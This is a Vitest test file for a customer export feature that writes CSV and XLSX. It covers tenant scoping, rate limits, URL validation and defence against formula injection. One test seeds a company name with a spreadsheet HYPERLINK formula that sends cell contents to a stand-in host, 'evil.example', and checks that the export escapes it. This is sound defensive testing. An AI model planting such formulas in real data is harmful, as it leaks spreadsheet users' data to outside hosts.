import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { companies } from '@keyway/db';
import type { TestDb } from '@keyway/db/testing';
import { actorFor, companyByAccount, createSeededDb } from '../testing/index.ts';
import { customerExport } from './export.ts';

let t: TestDb;
beforeAll(async () => {
  t = await createSeededDb();
});
afterAll(() => t.drop());

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8');
}

describe('customer summary export', () => {
  it('writes the selected customers of the actor’s subtree as CSV, with a header row', async () => {
    const actor = await actorFor(t.db, 'admin@northwind-distribution.example');
    const prepared = await customerExport.prepare(t.db, actor, { format: 'csv', filters: { status: 'enabled' } });
    expect(prepared).toMatchObject({ url: '/api/exports/customers?format=csv&status=enabled', rows: 14 });

    const { rows, stream } = await customerExport.start(t.db, actor, customerExport.inputFromQuery(new URL(`http://x${prepared.url}`).searchParams));
    const lines = (await text(stream)).replace(/^\uFEFF/, '').trim().split('\n');
    expect(rows).toBe(14);
    expect(lines[0]).toBe('Customer,Account name,Status,Managed by,Contact,Contact email,Emergency email,Phone,City,Country,Time zone,Language,Created (America/Los_Angeles)');
    expect(lines).toHaveLength(15);
    const acme = lines.find((l) => l.startsWith('Acme Dental Group,'));
    expect(acme).toMatch(/^Acme Dental Group,acme-dental,enabled,Bluefin IT Services,.*,admin@acme-dental\.example,.*,US,America\/Los_Angeles,en,\d{4}-\d\d-\d\d \d\d:\d\d$/);
    expect(lines.some((l) => l.startsWith('Globex Logistics'))).toBe(false);
    expect(lines.some((l) => l.includes(',disabled,'))).toBe(false);
  });

  it('writes XLSX a spreadsheet opens, one row per customer', async () => {
    const actor = await actorFor(t.db, 'admin@summit-msp.example');
    const { stream } = await customerExport.start(t.db, actor, { format: 'xlsx', filters: {} });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(stream);
    const sheet = workbook.getWorksheet('Customers')!;
    expect(sheet.rowCount).toBe(7);
    expect(sheet.getRow(1).getCell(1).value).toBe('Customer');
    const names = sheet.getColumn(1).values.slice(2);
    expect(names).toContain('Globex Logistics');
    expect(names).not.toContain('Acme Dental Group');
  });

  it('is limited to ten exports per person in ten minutes', async () => {
    const actor = await actorFor(t.db, 'customer-account-manager@bluefin-it.example');
    for (let i = 0; i < 10; i++) (await customerExport.start(t.db, actor, { format: 'csv', filters: {} })).stream.destroy();
    await expect(customerExport.start(t.db, actor, { format: 'csv', filters: {} })).rejects.toThrow('Too many exports');
  });

  it('writes a customer named like a spreadsheet formula as text, in CSV and in XLSX', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const globex = await companyByAccount(t.db, 'globex');
    await t.db.update(companies).set({ name: hostile }).where(eq(companies.id, globex.id));
    const actor = await actorFor(t.db, 'admin@summit-msp.example');

    const csv = await text((await customerExport.start(t.db, actor, { format: 'csv', filters: {} })).stream);
    const line = csv.split('\n').find((l) => l.includes('evil.example'));
    expect(line).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",globex,/);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read((await customerExport.start(t.db, actor, { format: 'xlsx', filters: {} })).stream);
    const cell = workbook.getWorksheet('Customers')!.getColumn(1).values.indexOf(hostile);
    const written = workbook.getWorksheet('Customers')!.getRow(cell).getCell(1);
    expect(written.type).toBe(ExcelJS.ValueType.String);
    expect(written.value).toBe(hostile);
  });

  it('refuses a download address it did not make', () => {
    expect(() => customerExport.inputFromQuery(new URLSearchParams('format=pdf'))).toThrow();
    expect(() => customerExport.inputFromQuery(new URLSearchParams('format=csv&partnerId=not-an-id'))).toThrow();
  });
});
